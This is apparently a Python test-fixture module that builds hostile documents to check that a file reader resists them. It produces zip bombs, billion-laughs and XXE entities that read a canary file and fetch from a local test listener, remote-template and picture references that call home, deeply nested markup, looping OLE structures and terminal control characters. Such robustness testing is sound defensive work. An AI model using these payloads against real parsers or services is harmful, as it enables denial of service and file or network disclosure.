"""Office documents, markup and mails made to hurt their readers, or to make them call home."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from hostile_made import STILL, Hostile, raw_zeros

HOME = ("127.77.31.9", 18_123)
"""Where the test listens: who comes here was made to call home. No other program of this machine uses that address."""
AWAY = "http://{}:{}/".format(*HOME)
CANARY = "/tmp/assay-hostile-canary.txt"
"""A file with words that must not turn up in any text."""
LAUGHS = (
    b"<!DOCTYPE r [" + b'<!ENTITY e0 "lol">' + b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    + b'<!ENTITY out SYSTEM "file://%s"><!ENTITY net SYSTEM "%s">' % (CANARY.encode(), AWAY.encode())
    + b'<!ENTITY %% also SYSTEM "%sdtd">%%also;]>' % AWAY.encode()
)  # fmt: skip
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'


def zipped(members: dict[str, bytes], kind: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind:
            archive.writestr(zipfile.ZipInfo("mimetype"), kind, zipfile.ZIP_STORED)
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_bomb(members: dict[str, bytes], name: str, start: bytes, mib: int, end: bytes, filler: bytes) -> bytes:
    """Return a zip of `members` and of one that unpacks to `mib` MiB of `filler` between two texts."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    begin = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = begin + raw_zeros(mib, filler)[:-2] + zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed += tail.compress(end) + tail.flush()
    crc = zlib.crc32(start)
    block = filler * (1 << 20)
    for _ in range(mib):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(end, crc)
    size = len(start) + (mib << 20) + len(end)
    made = zipped(members)
    at = made.index(b"PK\x01\x02")
    directory, close = made[at:-22], made[-22:]
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + head + name.encode() + packed
    central = b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, at) + name.encode()
    count = struct.unpack_from("<H", close, 8)[0] + 1
    directory += central
    return made[:at] + local + directory + b"PK\x05\x06" + struct.pack(
        "<HHHHIIH", 0, 0, count, count, len(directory), at + len(local), 0
    )  # fmt: skip


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/package/2006/"


def types(part: str, kind: str) -> bytes:
    main = f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>'
    plain = '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/xml"/>'
    return HEAD + f'<Types xmlns="{P}content-types">{plain}{main}</Types>'.encode()


def relations(*of: tuple[str, str, str, bool]) -> bytes:
    """Return a part's relations: id, kind, target, and whether it lies outside."""
    rows = "".join(
        f'<Relationship Id="{name}" Type="{R}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if away else ""}/>'
        for name, kind, target, away in of
    )
    return HEAD + f'<Relationships xmlns="{P}relationships">{rows}</Relationships>'.encode()


def paragraph(text: str) -> bytes:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


def word(body: bytes, before: bytes = b"") -> dict[str, bytes]:
    document = (
        HEAD + before + f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'.encode() + body + b"</w:body></w:document>"
    )
    return {
        "[Content_Types].xml": types("word/document.xml", "wordprocessingml.document"),
        "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml", False)),
        "word/document.xml": document,
    }


def docx_bomb() -> bytes:
    members = word(b"")
    whole = members.pop("word/document.xml")
    at = whole.index(b"</w:body>")
    return with_bomb(members, "word/document.xml", whole[:at] + paragraph(STILL) + b"<w:p><w:r><w:t>", 700,
                     b"</w:t></w:r></w:p>" + whole[at:], b"A")  # fmt: skip


def docx_side_bomb() -> bytes:
    """The text is small; what unpacks to 3 GiB are the notes at its foot and its styles."""
    return with_bomb(word(paragraph(STILL)), "word/footnotes.xml", HEAD + f'<w:footnotes xmlns:w="{W}">'.encode(), 700,
                     b"</w:footnotes>", b" ")  # fmt: skip


def docx_entities() -> bytes:
    return zipped(word(paragraph(STILL) + paragraph("&e9;") + paragraph("&out;&net;"), LAUGHS))


def docx_calls_home() -> bytes:
    picture = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="p1"/></w:drawing>'
        '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:href="p1"/></w:pict>'
        '<w:instrText>INCLUDEPICTURE "' + AWAY + 'field.png" \\d</w:instrText></w:r></w:p>'
    )
    members = word(paragraph(STILL) + picture.encode())
    members["word/_rels/document.xml.rels"] = relations(
        ("p1", "image", AWAY + "picture.png", True), ("p2", "attachedTemplate", AWAY + "template.dotm", True),
        ("p3", "subDocument", "file://" + CANARY, True), ("p4", "oleObject", AWAY + "object.bin", True),
    )  # fmt: skip
    members["word/_rels/settings.xml.rels"] = relations(("p2", "attachedTemplate", AWAY + "template.dotm", True))
    members["word/settings.xml"] = (
        HEAD + f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="p2"/></w:settings>'.encode()
    )
    return zipped(members)


def docx_deep() -> bytes:
    return zipped(word(paragraph(STILL) + b"<w:tbl><w:tr><w:tc>" * 40_000 + b"</w:tc></w:tr></w:tbl>" * 40_000))


def docx_in_docx() -> bytes:
    """Forty documents, each embedded in the one around it."""
    inner = zipped(word(paragraph("innermost")))
    for _ in range(40):
        inner = zipped({**word(paragraph(STILL)), "word/embeddings/inner.docx": inner})
    return inner


def sheet(rows: bytes, strings: bytes | None = None) -> dict[str, bytes]:
    members = {
        "[Content_Types].xml": types("xl/workbook.xml", "spreadsheetml.sheet"),
        "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": HEAD + f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Prices" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
        "xl/_rels/workbook.xml.rels": relations(
            ("r1", "worksheet", "worksheets/sheet1.xml", False), ("r2", "sharedStrings", "sharedStrings.xml", False)
        ),
        "xl/worksheets/sheet1.xml": HEAD + f'<worksheet xmlns="{S}">'.encode() + rows + b"</worksheet>",
    }  # fmt: skip
    if strings is not None:
        members["xl/sharedStrings.xml"] = strings
    return members


def inline(place: str, text: str) -> bytes:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def xlsx_strings() -> bytes:
    rows = b'<sheetData><row r="1">' + inline("A1", STILL) + b'<c r="B1" t="s"><v>0</v></c></row></sheetData>'
    start = HEAD + f'<sst xmlns="{S}" count="1" uniqueCount="1"><si><t>'.encode()
    return with_bomb(sheet(rows), "xl/sharedStrings.xml", start, 700, b"</t></si></sst>", b"A")


def xlsx_many_strings() -> bytes:
    """A million and a half short strings, of which the sheet uses one."""
    strings = HEAD + f'<sst xmlns="{S}">'.encode() + b"<si><t>a</t></si>" * 1_500_000 + b"</sst>"
    return zipped(sheet(b'<sheetData><row r="1">' + inline("A1", STILL) + b"</row></sheetData>", strings))


def xlsx_wide() -> bytes:
    """A sheet that states 1,048,576 x 16,384 cells, merges them, and holds one at each end."""
    rows = b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">' + inline("A1", STILL) + inline("XFD1", "far")
    rows += b'</row><row r="1048576">' + inline("XFD1048576", "farthest") + b"</row></sheetData>"
    rows += b'<mergeCells count="2"><mergeCell ref="B2:XFD1048575"/><mergeCell ref="A2:A1048576"/></mergeCells>'
    return zipped(sheet(rows))


def xlsx_entities() -> bytes:
    members = sheet(b'<sheetData><row r="1">' + inline("A1", STILL) + b'<c r="B1" t="s"><v>0</v></c></row></sheetData>')
    members["xl/sharedStrings.xml"] = HEAD + LAUGHS + f'<sst xmlns="{S}"><si><t>&e9;&out;</t></si></sst>'.encode()
    return zipped(members)


OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
ODF = HEAD + b'<manifest:manifest xmlns:manifest="' + OFFICE.encode() + b'manifest:1.0"/>'


def opendocument(body: str, before: bytes = b"", kind: str = "text") -> bytes:
    names = " ".join(
        f'xmlns:{short}="{OFFICE}{short}:1.0"' for short in ("office", "text", "table", "draw")
    ) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'  # fmt: skip
    content = f"<office:document-content {names}><office:body>{body}</office:body></office:document-content>"
    members = {"content.xml": HEAD + before + content.encode(), "META-INF/manifest.xml": ODF}
    return zipped(members, f"application/vnd.oasis.opendocument.{kind}")


def odt_entities() -> bytes:
    body = f'<text:p>{STILL}</text:p><text:p>&e9;&out;</text:p><draw:image xlink:href="{AWAY}odt.png"/>'
    return opendocument(f"<office:text>{body}</office:text>", LAUGHS)


def ods_repeated() -> bytes:
    """A sheet of one cell repeated in 16,384 columns of a million rows, and one that states to repeat itself for ever."""
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>A</text:p></table:table-cell>'
    rows = f"<table:table-row><table:table-cell><text:p>{STILL}</text:p></table:table-cell></table:table-row>"
    rows += f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    rows += '<table:table-row table:number-rows-repeated="99999999999999999999"><table:table-cell/></table:table-row>'
    return opendocument(f'<office:spreadsheet><table:table table:name="T">{rows}</table:table></office:spreadsheet>',
                        kind="spreadsheet")  # fmt: skip


def odt_spaces() -> bytes:
    return opendocument(f'<office:text><text:p>{STILL}<text:s text:c="2000000000"/>end</text:p></office:text>')


def epub_loop() -> bytes:
    """A book whose order names one chapter fifty thousand times, with entities that grow."""
    container = (
        HEAD
        + b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>'
    )
    package = (
        HEAD
        + b'<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>'
    )
    package += b'<itemref idref="c"/>' * 50_000 + b"</spine></package>"
    chapter = (
        HEAD
        + LAUGHS
        + f"<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{STILL}</p><p>&e9;&out;</p></body></html>".encode()
    )
    return zipped({"META-INF/container.xml": container, "b.opf": package, "c.xhtml": chapter}, "application/epub+zip")


def ole_loop() -> bytes:
    """An OLE file whose table of sectors and whose directory lead back into themselves."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<128I", 0xFFFFFFFD, 1, 2, *[3] * 125)
    name = "WordDocument".encode("utf-16-le")
    root = "Root Entry".encode("utf-16-le")
    entry = struct.pack("<64sHBBIII16sIQQIQ", root, len(root) + 2, 5, 0, 0, 1, 1, bytes(16), 0, 0, 0, 2, 1 << 30)
    other = struct.pack("<64sHBBIII16sIQQIQ", name, len(name) + 2, 2, 0, 1, 0, 1, bytes(16), 0, 0, 0, 2, 1 << 30)
    return head + table + (entry + other) * 2 + b"\0" * 1024


def rtf_deep() -> bytes:
    return b"{\\rtf1\\ansi " + STILL.encode() + b"\\par " + b"{\\b " * 200_000 + b"}" * 200_000 + b"}"


def rtf_binary() -> bytes:
    return b"{\\rtf1\\ansi " + STILL.encode() + b"\\par {\\pict\\bin2147483647 x}{\\field{\\*\\fldinst INCLUDEPICTURE " + (
        AWAY.encode() + b"rtf.png}}\\u99999999999999999999 \\'zz\\bin99999999999999999999999 }"
    )  # fmt: skip


def html_deep() -> bytes:
    return b"<html><body><p>" + STILL.encode() + b"</p>" + b"<div>" * 100_000 + b"x" + b"</div>" * 100_000


def html_calls_home() -> bytes:
    tags = (
        f'<img src="{AWAY}i.png" srcset="{AWAY}s.png 2x"><link rel="stylesheet" href="{AWAY}s.css"><script src="{AWAY}x.js"></script>'
        f'<iframe src="{AWAY}f"></iframe><object data="{AWAY}o"></object><embed src="{AWAY}e"><video poster="{AWAY}p" src="{AWAY}v"></video>'
        f'<meta http-equiv="refresh" content="0;url={AWAY}m"><base href="{AWAY}"><body background="{AWAY}b">'
        f'<style>@import url({AWAY}c.css);body{{background:url({AWAY}u.png)}}</style><svg><image href="{AWAY}g.png"/></svg>'
    )
    return f"<!DOCTYPE html SYSTEM '{AWAY}h.dtd'><html><head>{tags}</head><p>{STILL}</p></html>".encode()


def html_table() -> bytes:
    """Cells that each claim a thousand columns and rows."""
    row = "<tr>" + '<td colspan="1000" rowspan="1000">x</td>' * 200 + "</tr>"
    return f"<html><body><p>{STILL}</p><table>{row * 400}</table></body></html>".encode()


def svg() -> bytes:
    body = f'<text>{STILL}</text><image href="{AWAY}svg.png"/><text>&e9;&out;&net;</text>'
    return HEAD + LAUGHS + f'<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>'.encode()


def xml_laughs() -> bytes:
    return HEAD + LAUGHS + f"<r><p>{STILL}</p><p>&e9;&out;&net;</p></r>".encode()


def xml_deep() -> bytes:
    return HEAD + b"<r><p>" + STILL.encode() + b"</p>" + b"<a>" * 500_000 + b"</a>" * 500_000 + b"</r>"


def xml_attributes() -> bytes:
    return (
        HEAD
        + b"<r>"
        + b"<p>"
        + STILL.encode()
        + b"</p><a "
        + b" ".join(b'a%d="x"' % n for n in range(200_000))
        + b"/></r>"
    )


MAIL = "From: a@example.org\nTo: b@example.org\nSubject: Delivery\nMIME-Version: 1.0\n"


def mail_parts(number: int = 10_000) -> bytes:
    parts = f"--b\nContent-Type: text/plain\n\n{STILL}\n" + "".join(
        f"--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename={n}.txt\n\n{n % 40}\n" for n in range(number)
    )  # fmt: skip
    return f"{MAIL}Content-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n".encode()


def mail_nested() -> bytes:
    """A mail in a mail, a thousand deep."""
    inner = b"innermost"
    for _ in range(1000):
        inner = f"{MAIL}Content-Type: message/rfc822\n\n".encode() + inner
    start = f"{MAIL}Content-Type: multipart/mixed; boundary=outer\n\n--outer\nContent-Type: text/plain\n\n{STILL}\n--outer\nContent-Type: message/rfc822\n\n"
    return start.encode() + inner + b"\n--outer--\n"


def mail_multiparts() -> bytes:
    """Parts in parts, a thousand deep."""
    out = [MAIL, "Content-Type: multipart/mixed; boundary=b0\n\n--b0\nContent-Type: text/plain\n\n", STILL, "\n"]
    for n in range(1, 1000):
        out.append(f"--b{n - 1}\nContent-Type: multipart/mixed; boundary=b{n}\n\n")
    return "".join(out).encode()


def mail_heads() -> bytes:
    words = "=?utf-8?b?0JTQvtCz0L7QstC+0YA=?= " * 40_000
    return f"{MAIL}X-Many: {words}\nReferences: {'<a@b> ' * 100_000}\nContent-Type: text/plain; charset={'x' * 100_000}\n\n{STILL}\n".encode()


def mail_calls_home() -> bytes:
    body = f'<p>{STILL}</p><img src="{AWAY}mail.png">'
    outside = f'Content-Type: message/external-body; access-type=URL; URL="{AWAY}part"\n\nContent-Type: image/png\n\n'
    text = f"--b\nContent-Type: text/html\n\n{body}\n--b\n{outside}\n--b--\n"
    return f"{MAIL}Content-Type: multipart/related; boundary=b\nContent-Location: {AWAY}\n\n{text}".encode()


def nul_bytes() -> bytes:
    return (STILL + "\n" + "deliver\0ed\n" + "word\n" * 400 + "\x1b[2J\u202e\0end\n").encode()


def one_line(mib: int = 2) -> bytes:
    return (STILL + " ").encode() + b"word " * (mib * 200_000)


def csv_wide() -> bytes:
    return (f"{STILL};price\n" + ";".join("1" for _ in range(1_000_000)) + "\n" + '"' + "a;" * 500_000).encode()


def markdown_deep() -> bytes:
    return (
        f"# Title\n\n{STILL}\n\n" + "".join("> " * n + "- x\n" for n in range(1, 600)) + "[" * 100_000 + "*_" * 100_000
    ).encode()


FILES = (
    Hostile(
        "bomb.docx",
        "a text of 700 MiB",
        docx_bomb,
        "limit: word/document.xml in the document is larger than 256 MiB",
        "",
    ),
    Hostile(
        "side-bomb.docx",
        "footnotes of 700 MiB beside a small text",
        docx_side_bomb,
        "limit: the rest was read without it",
    ),
    Hostile(
        "entities.docx",
        "entities that grow, from a file and from the network",
        docx_entities,
        "limit: was read as far as possible: Maximum entity",
    ),
    Hostile("calls-home.docx", "pictures, template, object and sub-document that lie elsewhere", docx_calls_home, ""),
    Hostile(
        "deep.docx",
        "forty thousand tables inside of each other",
        docx_deep,
        "limit: was read as far as possible: Excessive depth",
    ),
    Hostile(
        "nested.docx",
        "forty documents, each embedded in the one around it",
        docx_in_docx,
        "limit: more than 8 archives deep",
    ),
    Hostile("strings.xlsx", "a shared string of 700 MiB", xlsx_strings, "limit: cells that show others are empty"),
    Hostile(
        "many-strings.xlsx",
        "a million and a half shared strings",
        xlsx_many_strings,
        "limit: 600,000 of them were read",
    ),
    Hostile("wide.xlsx", "a sheet that states 1,048,576 x 16,384 cells and merges them", xlsx_wide, ""),
    Hostile(
        "entities.xlsx",
        "entities that grow in the shared strings",
        xlsx_entities,
        "broken: the table of strings is damaged",
    ),
    Hostile(
        "entities.odt",
        "entities that grow, from a file; a picture that lies elsewhere",
        odt_entities,
        "limit: was read as far as possible",
    ),
    Hostile(
        "repeated.ods",
        "a cell repeated seventeen thousand million times",
        ods_repeated,
        "limit: holds more than 300000 filled cells",
    ),
    Hostile("spaces.odt", "two thousand million spaces in one element", odt_spaces, ""),
    Hostile("loop.epub", "a chapter named fifty thousand times, with entities", epub_loop, ""),
    Hostile(
        "loop.doc",
        "an OLE file whose sectors and directory lead into themselves",
        ole_loop,
        "broken: its sectors run in a circle",
        "",
    ),
    Hostile(
        "deep.rtf",
        "two hundred thousand groups inside of each other",
        rtf_deep,
        "limit: nested more than 2000 deep; what stands before those was read",
    ),
    Hostile("binary.rtf", "binary data of 2 GiB that is not there, numbers out of range", rtf_binary, ""),
    Hostile(
        "deep.html",
        "a hundred thousand elements inside of each other",
        html_deep,
        "limit: read up to a limit of its parser only",
    ),
    Hostile("calls-home.html", "pictures, scripts, styles, frames and a DTD that lie elsewhere", html_calls_home, ""),
    Hostile("table.html", "cells that each claim a million places", html_table, ""),
    Hostile(
        "entities.svg",
        "entities that grow, from a file; a picture that lies elsewhere",
        svg,
        "broken: it was read as plain text",
    ),
    Hostile(
        "entities.xml",
        "entities that grow, from a file and from the network",
        xml_laughs,
        "broken: it was read as plain text",
    ),
    Hostile("deep.xml", "half a million elements inside of each other", xml_deep, "broken: it was read as plain text"),
    Hostile("attributes.xml", "two hundred thousand attributes on one element", xml_attributes, ""),
    Hostile("parts.eml", "ten thousand parts", mail_parts, ""),
    Hostile(
        "nested.eml",
        "a mail in a mail, a thousand deep",
        mail_nested,
        "limit: what follows its head was read as one text",
    ),
    Hostile(
        "multiparts.eml",
        "parts in parts, a thousand deep",
        mail_multiparts,
        "limit: what follows its head was read as one text",
    ),
    Hostile("heads.eml", "headers of megabytes: encoded words, references, a character set's name", mail_heads, ""),
    Hostile("calls-home.eml", "a picture and a part that lie elsewhere", mail_calls_home, ""),
    Hostile("nul.txt", "NUL bytes and marks that steer a terminal", nul_bytes, ""),
    Hostile("line.txt", "two million letters in a single line", one_line, ""),
    Hostile("wide.csv", "a million columns, and a quote that never closes", csv_wide, ""),
    Hostile("deep.md", "quotes, lists and brackets inside of each other", markdown_deep, ""),
)
